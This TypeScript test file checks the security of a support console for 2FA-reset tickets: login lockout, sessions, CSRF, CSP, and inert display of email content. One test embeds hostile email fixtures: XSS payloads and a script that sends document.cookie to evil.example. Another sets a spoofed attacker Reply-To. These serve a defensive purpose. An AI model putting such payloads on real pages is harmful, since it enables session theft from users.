// The console over HTTP: sign-in, sessions, headers, inert message text, agents' actions.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { and, eq } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import { agentSessions, inboundMessages, outbox, ticketEvents } from '../../src/adapters/db/schema/index.ts';
import { createTestEnv, seedAccount, seedAgent, TEST_AUTHSERV, type TestEnv } from '../support/app.ts';
import { buildMail, COMPLETE_REQUEST_EN } from '../support/mail.ts';
import { client, codeAt, ingest, loggedIn, webApp } from '../e2e/console-support.ts';
import { buildHttpApp } from '../../src/web/app.ts';

let env: TestEnv;
let app: FastifyInstance;

beforeAll(async () => {
  env = await createTestEnv({ RECOVERY_CANCEL_WINDOW: '1h' });
  app = await webApp(env, { rateLimits: { login: 100 } });
});
afterAll(async () => {
  await app?.close();
  await env?.close();
});

async function eventsOfType(type: string) {
  return env.app.deps.db.select().from(ticketEvents).where(eq(ticketEvents.type, type));
}

describe('signing in', () => {
  test('password and TOTP give a strict, HttpOnly session; failures are audited; logout revokes it', async () => {
    const agent = await seedAgent(env, 'alice@bpart.test');
    const c = client(app);
    const csrf = await c.csrfFrom('/login');
    const bad = await c.post('/login', { _csrf: csrf, email: agent.email, password: 'wrong', code: await codeAt(agent.totpSecret) });
    expect(bad.statusCode).toBe(401);
    expect(bad.body).toContain('wrong email, password or code');
    expect((await eventsOfType('login_failed')).at(-1)).toMatchObject({ actor: 'alice@bpart.test', ticketId: null, data: { reason: 'bad_password' } });
    const badCode = await c.post('/login', { _csrf: csrf, email: agent.email, password: agent.password, code: '000000' });
    expect(badCode.statusCode).toBe(401);
    expect((await eventsOfType('login_failed')).at(-1)!.data).toMatchObject({ reason: 'bad_code' });

    const ok = await c.post('/login', { _csrf: csrf, email: agent.email, password: agent.password, code: await codeAt(agent.totpSecret) });
    expect(ok.statusCode).toBe(303);
    const setCookie = String(ok.headers['set-cookie']);
    expect(setCookie).toMatch(/rd_session=[^;]+;.*HttpOnly/i);
    expect(setCookie).toMatch(/SameSite=Strict/i);
    expect(setCookie).toMatch(/Max-Age=\d+/i);
    expect((await eventsOfType('login')).at(-1)).toMatchObject({ actor: 'alice@bpart.test', ticketId: null });
    expect((await c.get('/tickets')).statusCode).toBe(200);
    // Only a hash of the session token is stored.
    const [session] = await env.app.deps.db.select().from(agentSessions);
    expect(session!.tokenHash).not.toBe(c.cookies.get('rd_session'));

    const stolen = c.cookies.get('rd_session')!;
    const page = await c.get('/tickets');
    const logoutCsrf = /name="_csrf" value="([^"]+)"/.exec(page.body)![1]!;
    expect((await c.post('/logout', { _csrf: logoutCsrf })).statusCode).toBe(303);
    expect((await eventsOfType('logout')).length).toBe(1);
    const replayed = await app.inject({ method: 'GET', url: '/tickets', headers: { cookie: `rd_session=${stolen}` } });
    expect(replayed.statusCode).toBe(303);
    expect(replayed.headers.location).toBe('/login');
  });

  test('an expired session is refused', async () => {
    const agent = await seedAgent(env, 'bob@bpart.test');
    const c = await loggedIn(app, agent);
    await env.app.deps.db
      .update(agentSessions)
      .set({ expiresAt: new Date(Date.now() - 1000) })
      .where(eq(agentSessions.agentId, agent.id));
    expect((await c.get('/tickets')).headers.location).toBe('/login');
  });

  test('five failures lock the sign-in, even with the right password and code, and unknown emails count too', async () => {
    const agent = await seedAgent(env, 'carol@bpart.test');
    const c = client(app);
    const csrf = await c.csrfFrom('/login');
    for (let i = 0; i < 5; i++) expect((await c.post('/login', { _csrf: csrf, email: agent.email, password: 'guess', code: '123456' })).statusCode).toBe(401);
    const locked = await c.post('/login', { _csrf: csrf, email: agent.email, password: agent.password, code: await codeAt(agent.totpSecret) });
    expect(locked.statusCode).toBe(429);
    expect((await eventsOfType('login_refused')).at(-1)).toMatchObject({ actor: 'carol@bpart.test', data: { reason: 'locked' } });
    for (let i = 0; i < 5; i++) await c.post('/login', { _csrf: csrf, email: 'nobody@bpart.test', password: 'guess', code: '123456' });
    expect((await c.post('/login', { _csrf: csrf, email: 'nobody@bpart.test', password: 'guess', code: '123456' })).statusCode).toBe(429);
  });

  test('sign-in attempts are rate-limited per client', async () => {
    const limited = await webApp(env, { rateLimits: { login: 3 } });
    try {
      const c = client(limited);
      const csrf = await c.csrfFrom('/login');
      const codes: number[] = [];
      for (let i = 0; i < 5; i++) codes.push((await c.post('/login', { _csrf: csrf, email: `x${i}@bpart.test`, password: 'p', code: '123456' })).statusCode);
      expect(codes).toEqual([401, 401, 401, 429, 429]);
    } finally {
      await limited.close();
    }
  });

  test('behind a trusted proxy the limit is per forwarded client; from anyone else X-Forwarded-For is ignored', async () => {
    let n = 0;
    const attempts = async (limited: FastifyInstance, forwardedFor: string) => {
      const c = client(limited);
      const csrf = await c.csrfFrom('/login');
      // a new email each time: the per-login lock (5 failures) is not what is measured here
      const form = { _csrf: csrf, email: `proxied-${(n += 1)}@bpart.test`, password: 'p', code: '123456' };
      return (await c.post('/login', form, { 'x-forwarded-for': forwardedFor })).statusCode;
    };
    // light-my-request connects from 127.0.0.1: the proxy, when it is trusted
    const config = { ...env.app.deps.config, HTTP_TRUSTED_PROXIES: ['127.0.0.1'] };
    const behindProxy = await buildHttpApp({ ...env.app.deps, config }, { ready: async () => ({ postgres: true, redis: true }) }, { rateLimits: { login: 2 } });
    const direct = await webApp(env, { rateLimits: { login: 2 } });
    try {
      const viaProxy = [await attempts(behindProxy, '203.0.113.1'), await attempts(behindProxy, '203.0.113.1'), await attempts(behindProxy, '203.0.113.1')];
      expect(viaProxy).toEqual([401, 401, 429]);
      expect(await attempts(behindProxy, '203.0.113.2')).toBe(401); // another agent behind the same proxy
      // Not trusted: a forged header does not make a fresh client.
      expect([await attempts(direct, '198.51.100.1'), await attempts(direct, '198.51.100.2'), await attempts(direct, '198.51.100.3')]).toEqual([401, 401, 429]);
    } finally {
      await behindProxy.close();
      await direct.close();
    }
  });

  test('a login form without its CSRF token is refused and audited', async () => {
    const agent = await seedAgent(env, 'dave@bpart.test');
    const response = await client(app).post('/login', { email: agent.email, password: agent.password, code: await codeAt(agent.totpSecret) });
    expect(response.statusCode).toBe(403);
    expect((await eventsOfType('request_refused')).at(-1)!.data).toMatchObject({ reason: 'csrf', route: '/login' });
  });
});

describe('pages', () => {
  test('every page carries a strict Content-Security-Policy and no script at all', async () => {
    const agent = await seedAgent(env, 'erin@bpart.test');
    const c = await loggedIn(app, agent);
    for (const url of ['/login', '/tickets', '/tickets?status=quarantined']) {
      const response = await c.get(url);
      const csp = String(response.headers['content-security-policy']);
      expect(csp).toContain("default-src 'none'");
      expect(csp).toContain("style-src 'self'");
      expect(csp).not.toContain('unsafe-inline');
      expect(csp).toContain("frame-ancestors 'none'");
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      expect(response.body).not.toMatch(/<script|style=|https?:\/\/(?!127\.0\.0\.1)/i);
    }
  });

  test('a message whose HTML holds <script> and remote images shows as inert text', async () => {
    await seedAccount(env, { email: 'mallory@northwind.example', fullName: 'Sarah Connor', organisations: ['Northwind Traders'] });
    await seedAccount(env, { email: 'html@northwind.example', fullName: 'Sarah Connor', organisations: ['Northwind Traders'] });
    const hostile = `${COMPLETE_REQUEST_EN}\n\n<script>alert("owned")</script><img src="https://tracker.example/p.png" onerror="alert(1)">`;
    const plain = await ingest(env, buildMail({ from: 'mallory@northwind.example', body: hostile }));
    const htmlOnly = Buffer.from(
      [
        `Authentication-Results: ${TEST_AUTHSERV}; dkim=pass header.d=northwind.example; dmarc=pass header.from=northwind.example`,
        'From: <html@northwind.example>',
        'To: support@bpart.test',
        'Subject: 2FA reset',
        'Message-ID: <html-only@northwind.example>',
        'MIME-Version: 1.0',
        'Content-Type: text/html; charset=utf-8',
        '',
        `<html><head><script>document.location="https://evil.example/"+document.cookie</script><style>body{background:url(https://tracker.example/bg.png)}</style></head><body><p>I lost my phone with my authenticator app, please reset my 2FA.</p><p>My name is Sarah Connor, I manage Northwind Traders.</p><img src="https://tracker.example/pixel.gif"><iframe src="https://evil.example/"></iframe></body></html>`,
        '',
      ].join('\r\n'),
    );
    const fromHtml = await ingest(env, htmlOnly);
    const c = await loggedIn(app, await seedAgent(env, 'frank@bpart.test'));
    const page = await c.get(`/tickets/${plain.ref}`);
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt;');
    expect(page.body).not.toMatch(/<script|<img|<iframe|<style/i);
    expect(page.body).not.toMatch(/<[^>]*\s(src|on\w+)=/i); // no live attribute that could load or run anything
    const htmlPage = await c.get(`/tickets/${fromHtml.ref}`);
    expect(htmlPage.body).toContain('I lost my phone with my authenticator app');
    expect(htmlPage.body).toContain('had only HTML');
    expect(htmlPage.body).not.toMatch(/<script|<img|<iframe|<style|<[^>]*\s(src|on\w+)=/i);
    expect(htmlPage.body).not.toContain('document.cookie');
  });
  test("a forward of the sender's own earlier request shows as their words; someone else's forward stays folded", async () => {
    await seedAccount(env, { email: 'resend@northwind.example', fullName: 'Sarah Connor', organisations: ['Northwind Traders'] });
    await seedAccount(env, { email: 'relay@northwind.example', fullName: 'Sarah Connor', organisations: ['Northwind Traders'] });
    const forward = (author: string, text: string) =>
      [
        '---------- Forwarded message ---------',
        `From: ${author}`,
        'Date: Mon, 2 Mar 2026 at 09:12',
        'Subject: Lost my 2FA device',
        'To: <support@bpart.test>',
        '',
        text,
      ].join('\n');
    const resent = ['Sending this again, I had no answer.', '', forward('Sarah Connor <resend@northwind.example>', COMPLETE_REQUEST_EN)].join('\n');
    const own = await ingest(env, buildMail({ from: 'resend@northwind.example', body: resent }));
    const c = await loggedIn(app, await seedAgent(env, 'olga@bpart.test'));
    const firstMail = (body: string) => /<pre class="mail">([\s\S]*?)<\/pre>/.exec(body)![1]!;
    const shown = firstMail((await c.get(`/tickets/${own.ref}`)).body);
    expect(shown).toContain('Sending this again');
    expect(shown).toContain('I lost my phone last weekend');
    // Control: a forward of another person's mail below one's own request stays folded away.
    const relayedText = [COMPLETE_REQUEST_EN, '', forward('Tom Hardy <tom@elsewhere.example>', 'Our rota for March is attached, see you Tuesday.')].join('\n');
    const relayed = await ingest(env, buildMail({ from: 'relay@northwind.example', body: relayedText }));
    const other = firstMail((await c.get(`/tickets/${relayed.ref}`)).body);
    expect(other).toContain('I lost my phone last weekend');
    expect(other).not.toContain('rota for March');
  });
});

describe('actions', () => {
  test('request details queues the templated request once, to the stored address only', async () => {
    await seedAccount(env, { email: 'partial@northwind.example', fullName: 'Sarah Connor', organisations: ['Northwind Traders'] });
    const ticket = await ingest(
      env,
      buildMail({
        from: 'partial@northwind.example',
        body: 'Hello, I lost my phone and my authenticator app. Please reset my 2FA.',
        headers: { 'Reply-To': 'attacker@evil.example' },
      }),
    );
    expect(ticket.status).toBe('waiting_details');
    const c = await loggedIn(app, await seedAgent(env, 'grace@bpart.test'));
    const page = await c.get(`/tickets/${ticket.ref}`);
    expect(page.body).toContain('Reply-To differs from From');
    // the fields in words, as on the queue, not their JSON names
    expect(page.body).toContain('Sends the fixed request for: full name');
    expect((await c.get('/tickets')).body).toContain('<span class="badge warn">full name</span>');
    const csrf = /name="_csrf" value="([^"]+)"/.exec(page.body)![1]!;
    const requests = async () =>
      env.app.deps.db
        .select()
        .from(outbox)
        .where(and(eq(outbox.ticketId, ticket.id), eq(outbox.kind, 'request_details')));
    const automatic = (await requests()).length; // the pipeline's own first request
    expect((await c.post(`/tickets/${ticket.ref}/request-details`, { _csrf: csrf })).headers.location).toContain('ok=details_requested');
    expect((await c.post(`/tickets/${ticket.ref}/request-details`, { _csrf: csrf })).headers.location).toContain('ok=details_already_requested');
    const rows = await requests();
    expect(rows).toHaveLength(automatic + 1);
    expect(rows.every((row) => row.toAddress === 'partial@northwind.example')).toBe(true);
    const events = await env.app.deps.db.select().from(ticketEvents).where(eq(ticketEvents.ticketId, ticket.id));
    expect(events.filter((e) => e.type === 'details_requested')).toHaveLength(2);
  });

  test('a ticket page shows the account on file, or why there is none, in words, never the raw JSON of its signals', async () => {
    await seedAccount(env, { email: 'words@northwind.example', fullName: 'Sarah Connor', organisations: ['Northwind Traders'] });
    const ticket = await ingest(env, buildMail({ from: 'words@northwind.example', body: COMPLETE_REQUEST_EN }));
    expect(ticket.status).toBe('ready');
    const c = await loggedIn(app, await seedAgent(env, 'wanda@bpart.test'));
    const page = (await c.get(`/tickets/${ticket.ref}`)).body;
    expect(page).toMatch(/<dt>Account directory<\/dt>\s*<dd>builtin · account \d+/);
    for (const raw of ['onFile', 'onFileNamed', 'mergedMessageIds', '{&quot;']) expect(page).not.toContain(raw);
    expect(page).toContain('Needs one approver');
    const unmatched = await ingest(env, buildMail({ from: 'nobody-here@northwind.example', body: COMPLETE_REQUEST_EN }));
    expect(unmatched.status).toBe('unmatched');
    const unmatchedPage = (await c.get(`/tickets/${unmatched.ref}`)).body;
    expect(unmatchedPage).toMatch(/<dt>No account<\/dt>\s*<dd>no account has this address<\/dd>/);
    expect(unmatchedPage).not.toContain('&quot;no_account&quot;');
  });

  test('notes and identity checks are recorded in the timeline; unknown checks are ignored', async () => {
    await seedAccount(env, { email: 'notes@northwind.example', fullName: 'Sarah Connor', organisations: ['Northwind Traders'] });
    const ticket = await ingest(env, buildMail({ from: 'notes@northwind.example', body: COMPLETE_REQUEST_EN }));
    const c = await loggedIn(app, await seedAgent(env, 'heidi@bpart.test'));
    const page = await c.get(`/tickets/${ticket.ref}`);
    expect(page.body).toContain('Never ask for copies of identity documents');
    const csrf = /name="_csrf" value="([^"]+)"/.exec(page.body)![1]!;
    expect(
      (
        await c.post(`/tickets/${ticket.ref}/identity-check`, {
          _csrf: csrf,
          checks: ['called_known_number', 'passport_scan'],
          detail: 'Called +32 2 000 00 00 from the CRM',
        })
      ).statusCode,
    ).toBe(303);
    expect((await c.post(`/tickets/${ticket.ref}/identity-check`, { _csrf: csrf, checks: ['passport_scan'], detail: '' })).statusCode).toBe(400);
    expect((await c.post(`/tickets/${ticket.ref}/note`, { _csrf: csrf, text: 'Holder sounded <b>legit</b>' })).statusCode).toBe(303);
    const events = await env.app.deps.db.select().from(ticketEvents).where(eq(ticketEvents.ticketId, ticket.id));
    expect(events.find((e) => e.type === 'identity_check')?.data).toEqual({ checks: ['called_known_number'], detail: 'Called +32 2 000 00 00 from the CRM' });
    expect(events.find((e) => e.type === 'note')).toMatchObject({ actor: 'heidi@bpart.test', data: { text: 'Holder sounded <b>legit</b>' } });
    expect(events.find((e) => e.type === 'request_refused')).toMatchObject({ actor: 'heidi@bpart.test', data: { reason: 'identity_check.empty' } });
    const shown = await c.get(`/tickets/${ticket.ref}`);
    expect(shown.body).toContain('Holder sounded &lt;b&gt;legit&lt;/b&gt;');
    expect(shown.body).toContain('Called the organisation&#39;s phone number');
  });

  test('reject with a reason closes the ticket', async () => {
    await seedAccount(env, { email: 'reject@northwind.example', fullName: 'Sarah Connor', organisations: ['Northwind Traders'] });
    const ticket = await ingest(env, buildMail({ from: 'reject@northwind.example', body: COMPLETE_REQUEST_EN }));
    const c = await loggedIn(app, await seedAgent(env, 'ivan@bpart.test'));
    const csrf = await c.csrfFrom(`/tickets/${ticket.ref}`);
    expect((await c.post(`/tickets/${ticket.ref}/reject`, { _csrf: csrf, reason: '' })).statusCode).toBe(400);
    expect((await c.post(`/tickets/${ticket.ref}/reject`, { _csrf: csrf, reason: 'Could not verify with the organisation' })).headers.location).toContain(
      'ok=rejected',
    );
    expect((await c.get(`/tickets?status=rejected`)).body).toContain(ticket.ref);
  });

  test('the queue filters by status, oldest first, and lists quarantined messages', async () => {
    const c = await loggedIn(app, await seedAgent(env, 'judy@bpart.test'));
    await env.app.deps.db.insert(inboundMessages).values({
      source: 'ingest',
      raw: Buffer.from('x'),
      rawSha256: 'f'.repeat(64),
      size: 1,
      status: 'quarantined',
      reason: 'parse.unparseable',
      fromAddress: 'weird@example.test',
    });
    const quarantined = await c.get('/tickets?status=quarantined');
    expect(quarantined.body).toContain('parse.unparseable');
    expect(quarantined.body).toContain('weird@example.test');
    const open = await c.get('/tickets');
    const refs = [...open.body.matchAll(/<strong>(REC-\d{4}-\d+)<\/strong>/g)].map((m) => m[1]!);
    expect(refs.length).toBeGreaterThan(1);
    expect([...refs].sort()).toEqual(refs);
  });
});
